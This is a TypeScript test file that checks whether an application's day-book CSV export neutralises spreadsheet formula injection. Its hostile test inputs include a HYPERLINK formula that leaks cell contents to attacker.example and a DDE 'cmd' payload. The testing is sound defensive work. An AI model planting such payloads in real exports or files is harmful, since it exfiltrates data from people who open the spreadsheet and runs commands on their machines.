/**
 * The post room at its edges (issue 11): what a spreadsheet makes of the day book, hostile or
 * malformed scans and file names, and letters received on the day a case was logged (P-3.2).
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startTestDomain, type TestDomain } from '../domain/test-support';
import { dayBookCsv } from './day-book-csv';

let t: TestDomain;
beforeEach(async () => {
  t = await startTestDomain('2026-11-25T11:00:00.000Z'); // Wednesday
});
afterEach(async () => {
  await t.close();
});

const sender = { name: 'Margaret Hale', addressLines: ['12 Milton Road', 'Manchester'], postcode: 'm1 1ae', country: 'GB' };

/** The cells of one CSV line as a spreadsheet would read them (quoted fields, doubled quotes). */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i += 1) {
    const char = line[i]!;
    if (quoted && char === '"' && line[i + 1] === '"') (cell += '"'), (i += 1);
    else if (char === '"') quoted = !quoted;
    else if (char === ',' && !quoted) cells.push(cell), (cell = '');
    else cell += char;
  }
  cells.push(cell);
  return cells;
}

describe('day book CSV: no cell can start a formula (OWASP CSV injection)', () => {
  const hostile = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)', '＝1+1', '＋1', '－1', '＠A1'];

  it.each(hostile)('a sender named %j reaches the CSV as text', async (name) => {
    await t.call('post.logIncoming', { receivedOn: '2026-11-24', sender: { ...sender, name }, kind: 'not-a-complaint', routedTo: '=Accounts', summary: '+Invoice' });
    const csv = await t.call('post.dayBook', { from: '2026-11-24', to: '2026-11-24', format: 'csv' });
    const text = Buffer.from(csv.dataBase64, 'base64').toString('utf8').replace(/^\uFEFF/, '');
    const lines = text.split('\r\n').length > 1 ? text.split('\r\n') : text.split('\n');
    const row = cellsOf(lines[1]!);
    expect(row[2]).toBe(`'${name}`);
    expect(row[5]).toBe("'+Invoice → =Accounts");
    expect(lines[1]).toContain(`"'${name.replaceAll('"', '""')}"`);
    // What is shown on screen stays as typed.
    expect(csv.rows[0]?.party).toBe(name);
  });

  it.each([['\tTab'], ['\rReturn'], ['=1'], ['-1'], ['@x'], ['+1'], ['＝1']])('%j is prefixed with a quote and quoted', (value) => {
    const text = dayBookCsv(['A'], [[value]]).toString('utf8').replace(/^\uFEFF/, '');
    expect(text.split('\n')[1]).toBe(`"'${value}"`);
  });

  it('ordinary cells are unchanged apart from quoting', () => {
    const text = dayBookCsv(['Sender'], [['Margaret Hale'], ['O\'Brien, "Jr"']]).toString('utf8').replace(/^\uFEFF/, '');
    expect(text.split('\n').slice(1, 3)).toEqual(['"Margaret Hale"', '"O\'Brien, ""Jr"""']);
  });
});
